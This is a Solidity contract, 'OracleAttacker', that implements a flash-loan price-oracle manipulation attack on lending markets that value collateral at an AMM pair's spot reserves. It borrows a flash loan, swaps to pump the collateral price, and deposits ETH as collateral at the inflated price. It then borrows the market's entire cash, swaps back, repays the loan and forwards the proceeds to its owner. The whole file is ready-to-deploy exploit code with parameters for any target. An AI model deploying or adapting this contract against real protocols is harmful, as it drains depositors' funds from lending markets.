// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IERC20Attack {
    function balanceOf(address) external view returns (uint256);
    function approve(address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
}

interface IFlashLender {
    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external returns (bool);
}

interface IPairAttack {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

interface IWrappedEther {
    function deposit() external payable;
}

interface ISpotMarket {
    function depositCollateral(uint256 amount) external;
    function borrow(uint256 amount) external;
}

/// @title OracleAttacker
/// @notice Flash-loan spot-oracle attack on a lending market that prices collateral at an AMM
///         pair's reserves: borrow the loan asset, buy the collateral asset to pump its spot price,
///         post the attacker's own collateral (ETH sent with the call, wrapped) at the pumped price, borrow the market's whole cash, sell the
///         collateral asset back, repay the loan and keep the difference.
contract OracleAttacker {
    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    address public immutable owner;
    address private lender;
    IPairAttack private pair;
    ISpotMarket private market;
    IERC20Attack private collateral;
    uint256 private collateralAmount;

    constructor() {
        owner = msg.sender;
    }

    /// @notice Run the attack with a flash loan of `loanAmount` of `loanToken` from `lender_`,
    ///         posting the ETH sent with the call, wrapped into `collateral_` (WETH), as collateral.
    function attack(
        address lender_,
        IERC20Attack loanToken,
        uint256 loanAmount,
        IPairAttack pair_,
        ISpotMarket market_,
        IERC20Attack collateral_
    ) external payable {
        require(msg.sender == owner, "OracleAttacker: not owner");
        (lender, pair, market, collateral, collateralAmount) = (lender_, pair_, market_, collateral_, msg.value);
        IWrappedEther(address(collateral_)).deposit{value: msg.value}();
        IFlashLender(lender_).flashLoan(address(this), address(loanToken), loanAmount, "");
        loanToken.transfer(owner, loanToken.balanceOf(address(this)));
    }

    /// @notice ERC-3156 callback: pump, borrow, dump, approve the repayment.
    function onFlashLoan(address initiator, address token, uint256 amount, uint256 fee, bytes calldata)
        external
        returns (bytes32)
    {
        require(msg.sender == lender && initiator == address(this), "OracleAttacker: untrusted loan");
        IERC20Attack loanToken = IERC20Attack(token);
        uint256 bought = _swap(loanToken, amount);
        collateral.approve(address(market), collateralAmount);
        market.depositCollateral(collateralAmount);
        market.borrow(loanToken.balanceOf(address(market)));
        _swap(collateral, bought);
        loanToken.approve(lender, amount + fee);
        return CALLBACK_SUCCESS;
    }

    /// @dev Sell `amountIn` of `input` to the pair for its other token at the constant-product quote.
    function _swap(IERC20Attack input, uint256 amountIn) private returns (uint256 amountOut) {
        (uint112 reserve0, uint112 reserve1,) = pair.getReserves();
        bool inputIs0 = pair.token0() == address(input);
        (uint256 reserveIn, uint256 reserveOut) =
            inputIs0 ? (uint256(reserve0), uint256(reserve1)) : (uint256(reserve1), uint256(reserve0));
        uint256 withFee = amountIn * 997;
        amountOut = (withFee * reserveOut) / (reserveIn * 1000 + withFee);
        input.transfer(address(pair), amountIn);
        (uint256 out0, uint256 out1) = inputIs0 ? (uint256(0), amountOut) : (amountOut, uint256(0));
        pair.swap(out0, out1, address(this), "");
    }
}
